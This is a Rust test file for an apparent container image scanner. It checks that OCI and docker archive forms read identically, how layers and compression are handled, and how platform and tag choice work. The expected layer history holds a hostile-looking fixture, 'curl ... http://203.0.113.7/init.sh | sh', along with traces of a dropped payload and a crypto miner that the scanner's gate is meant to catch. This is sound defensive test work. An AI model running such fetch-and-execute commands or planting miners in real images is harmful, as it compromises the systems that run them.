//! Every local target form reads to the same image: OCI layouts with plain,
//! gzip, multi-member gzip and zstd layers, oci-archives, both docker-save
//! layouts, compressed archives, and a rootfs directory; plus image choice
//! by tag and platform.

use crate::support::*;
use imgscan_fixtures::*;
use std::ffi::OsStr;

fn demo_forms() -> Vec<(String, std::path::PathBuf)> {
    let image = demo();
    let variant = [Variant {
        image: &image,
        platform_in_index: true,
        ref_name: Some("1.0".into()),
    }];
    let mut forms = Vec::new();
    for (name, how) in [
        ("oci-gzip", LayerCompression::Gzip),
        ("oci-pigz", LayerCompression::MultiGzip),
        ("oci-zstd", LayerCompression::Zstd),
        ("oci-plain", LayerCompression::None),
    ] {
        let dir = fresh(name);
        write_oci_layout(&dir, &variant, how).unwrap();
        forms.push((name.to_string(), dir));
    }
    let file = fresh("demo.oci.tar");
    write_oci_archive(
        &file,
        &variant,
        LayerCompression::Gzip,
        ArchiveCompression::None,
    )
    .unwrap();
    forms.push(("oci-archive".into(), file));
    let file = fresh("demo.oci.tar.gz");
    write_oci_archive(
        &file,
        &variant,
        LayerCompression::Zstd,
        ArchiveCompression::Gzip,
    )
    .unwrap();
    forms.push(("oci-archive-gz".into(), file));
    for (name, layout, outer) in [
        (
            "docker-legacy",
            DockerLayout::Legacy,
            ArchiveCompression::None,
        ),
        ("docker-oci", DockerLayout::Oci, ArchiveCompression::None),
        (
            "docker-legacy-gz",
            DockerLayout::Legacy,
            ArchiveCompression::Gzip,
        ),
        ("docker-oci-gz", DockerLayout::Oci, ArchiveCompression::Gzip),
    ] {
        let file = fresh(&format!("{name}.tar"));
        write_docker_archive(&file, &image, layout, outer).unwrap();
        forms.push((name.to_string(), file));
    }
    forms
}

#[test]
fn every_form_reads_to_the_same_tree() {
    let forms = demo_forms();
    let reference = inspect(&forms[0].1, &[]);
    let expected_rows = file_rows(&reference);
    for (name, path) in &forms {
        let report = inspect(path, &[]);
        assert_eq!(file_rows(&report), expected_rows, "form {name} differs");
        let kind = report["target"]["kind"].as_str().unwrap();
        let want = if name.starts_with("oci-archive") {
            "oci-archive"
        } else if name.starts_with("oci") {
            "oci-dir"
        } else {
            "docker-archive"
        };
        assert_eq!(kind, want, "form {name}");
        assert_eq!(report["target"]["os"]["id"], "debian", "form {name}");
        assert_eq!(report["target"]["os"]["version_id"], "12", "form {name}");
        assert_eq!(report["target"]["platform"], "linux/amd64", "form {name}");
        assert_eq!(
            report["target"]["created"], "2026-11-01T12:00:00Z",
            "form {name}"
        );
        let layers = report["layers"].as_array().unwrap();
        assert_eq!(layers.len(), 3, "form {name}");
        // The empty-layer history line (CMD) pairs with no layer.
        let created: Vec<&str> = layers
            .iter()
            .map(|l| l["created_by"].as_str().unwrap())
            .collect();
        assert_eq!(
            created,
            [
                "ADD rootfs.tar /",
                "RUN apt-get install -y ca-certificates && COPY app/ /opt/app/ && curl -fsSL http://203.0.113.7/init.sh | sh",
                "RUN rm -rf /tmp/payload.sh /tmp/.xmr && apt-get clean"
            ],
            "form {name}"
        );
        for layer in layers {
            assert!(layer["digest"].as_str().unwrap().starts_with("sha256:"));
            assert!(layer["diff_id"].as_str().unwrap().starts_with("sha256:"));
            assert!(layer["entries"].as_u64().unwrap() > 0);
            assert!(layer["compressed_size"].as_u64().unwrap() > 0);
        }
        // diff_ids are the same whatever the compression.
        let diff_ids: Vec<&str> = layers
            .iter()
            .map(|l| l["diff_id"].as_str().unwrap())
            .collect();
        let reference_ids: Vec<&str> = reference["layers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| l["diff_id"].as_str().unwrap())
            .collect();
        assert_eq!(diff_ids, reference_ids, "form {name}");
    }
}

#[test]
fn compression_is_detected_from_bytes() {
    for (how, want) in [
        (LayerCompression::Gzip, "gzip"),
        (LayerCompression::Zstd, "zstd"),
        (LayerCompression::None, "none"),
        (LayerCompression::MultiGzip, "gzip"),
    ] {
        let report = inspect(oci_dir(&demo(), how), &[]);
        for layer in report["layers"].as_array().unwrap() {
            assert_eq!(layer["compression"], want);
        }
    }
}

#[test]
fn whiteouts_opaque_dirs_and_hard_links_apply() {
    let report = inspect(oci_dir(&demo(), LayerCompression::Gzip), &[]);
    let rows = file_rows(&report);
    let deleted = |path: &str| {
        rows.iter()
            .find(|r| r.0 == path && r.4.is_some())
            .map(|r| (r.1, r.4.unwrap()))
    };
    assert_eq!(
        deleted("/tmp/payload.sh"),
        Some((1, 2)),
        "whiteout removes the dropped file"
    );
    assert_eq!(
        deleted("/var/cache/apt/pkgcache.txt"),
        Some((0, 2)),
        "opaque dir hides lower content"
    );
    assert!(live(&report, "/tmp/payload.sh").is_none());
    assert!(live(&report, "/var/cache/apt").is_none());
    assert_eq!(live(&report, "/var/cache/fresh.txt").unwrap()["layer"], 2);
    let link = live(&report, "/usr/local/bin/app-hardlink").unwrap();
    assert_eq!(link["type"], "file");
    assert_eq!(
        link["size"],
        live(&report, "/usr/local/bin/app").unwrap()["size"]
    );
    assert!(
        rows.iter().all(|r| !r.0.contains(".wh.")),
        "whiteout markers are not files"
    );
    assert_eq!(live(&report, "/etc/os-release").unwrap()["type"], "symlink");
}

#[test]
fn rootfs_directory_is_one_layer_and_links_stay_inside() {
    let root = fresh("rootfs");
    std::fs::create_dir_all(root.join("usr/lib")).unwrap();
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(
        root.join("usr/lib/os-release"),
        "ID=alpine\nVERSION_ID=3.19.1\nPRETTY_NAME=\"Alpine Linux v3.19\"\n",
    )
    .unwrap();
    // Absolute link: on the host this would read the host's os-release.
    std::os::unix::fs::symlink("/usr/lib/os-release", root.join("etc/os-release")).unwrap();
    let report = inspect(&root, &[]);
    assert_eq!(report["target"]["kind"], "dir");
    assert_eq!(
        report["target"]["os"]["id"], "alpine",
        "the link resolves inside the rootfs"
    );
    assert_eq!(report["layers"].as_array().unwrap().len(), 1);
    assert!(report["layers"][0].get("digest").is_none());
    let forced = inspect(format!("dir:{}", root.display()), &[]);
    assert_eq!(forced["target"]["kind"], "dir");
}

#[test]
fn scheme_prefixes_force_the_kind() {
    let forms = demo_forms();
    let oci_archive = &forms.iter().find(|f| f.0 == "oci-archive").unwrap().1;
    let report = inspect(format!("oci-archive:{}", oci_archive.display()), &[]);
    assert_eq!(report["target"]["kind"], "oci-archive");
    let err = fails(&[
        OsStr::new("inspect"),
        OsStr::new(&format!("docker-archive:{}", oci_archive.display())),
    ]);
    assert!(err.contains("manifest.json"), "{err}");
    // The newer docker layout is also a valid OCI layout.
    let docker_oci = &forms.iter().find(|f| f.0 == "docker-oci").unwrap().1;
    let report = inspect(format!("oci-archive:{}", docker_oci.display()), &[]);
    assert_eq!(report["target"]["kind"], "oci-archive");
    assert_eq!(report["layers"].as_array().unwrap().len(), 3);
}

#[test]
fn platform_is_chosen_from_a_multi_image_index() {
    let dir = two_arch_layout("multi");
    assert_eq!(
        arch_of(&inspect(&dir, &["--platform", "linux/arm64"])),
        "linux/arm64"
    );
    let host = host_platform();
    assert_eq!(
        arch_of(&inspect(&dir, &[])),
        host,
        "default is the host's platform"
    );
    let err = fails(&[
        OsStr::new("inspect"),
        dir.as_os_str(),
        OsStr::new("--platform"),
        OsStr::new("linux/s390x"),
    ]);
    assert!(
        err.contains("linux/amd64, linux/arm64"),
        "lists the choices: {err}"
    );

    // Neither is the host's, and the index does not say: the configs do,
    // and without --platform the choice is the user's.
    let (ppc, s390) = (arch_image("ppc64le"), arch_image("s390x"));
    let dir = fresh("foreign");
    let variants = [
        Variant {
            image: &ppc,
            platform_in_index: false,
            ref_name: None,
        },
        Variant {
            image: &s390,
            platform_in_index: false,
            ref_name: None,
        },
    ];
    write_oci_layout(&dir, &variants, LayerCompression::Gzip).unwrap();
    let err = fails(&[OsStr::new("inspect"), dir.as_os_str()]);
    assert!(
        err.contains("several images") && err.contains("linux/ppc64le, linux/s390x"),
        "{err}"
    );
    assert_eq!(
        arch_of(&inspect(&dir, &["--platform", "linux/s390x"])),
        "linux/s390x"
    );
}

#[test]
fn tags_select_an_image() {
    let (one, two) = (arch_image("amd64"), arch_image("arm64"));
    let dir = fresh("tags");
    let variants = [
        Variant {
            image: &one,
            platform_in_index: true,
            ref_name: Some("v1".into()),
        },
        Variant {
            image: &two,
            platform_in_index: true,
            ref_name: Some("v2".into()),
        },
    ];
    write_oci_layout(&dir, &variants, LayerCompression::Gzip).unwrap();
    assert_eq!(
        arch_of(&inspect(format!("{}:v2", dir.display()), &[])),
        "linux/arm64"
    );
    assert_eq!(
        arch_of(&inspect(format!("oci-dir:{}:v1", dir.display()), &[])),
        "linux/amd64"
    );
    let err = fails(&[
        OsStr::new("inspect"),
        OsStr::new(&format!("{}:v3", dir.display())),
    ]);
    assert!(err.contains("tag `v3`") && err.contains("v1, v2"), "{err}");

    let archive = demo_docker_archive("tagged.tar");
    let report = inspect(format!("{}:demo:1.0", archive.display()), &[]);
    assert_eq!(report["target"]["kind"], "docker-archive");
    let err = fails(&[
        OsStr::new("inspect"),
        OsStr::new(&format!("{}:demo:2.0", archive.display())),
    ]);
    assert!(err.contains("demo:1.0"), "{err}");
}

#[test]
fn scan_is_the_default_command_and_prints_a_table() {
    let out = demo_docker_archive("packed.tar");
    let run = run(&[out.as_os_str()]);
    assert_eq!(
        run.code, 1,
        "the demo's miner fails the gate: {}",
        run.stderr
    );
    assert!(
        run.stdout.contains("Debian GNU/Linux 12 (bookworm)"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("RUN rm -rf /tmp/payload.sh"),
        "{}",
        run.stdout
    );
}
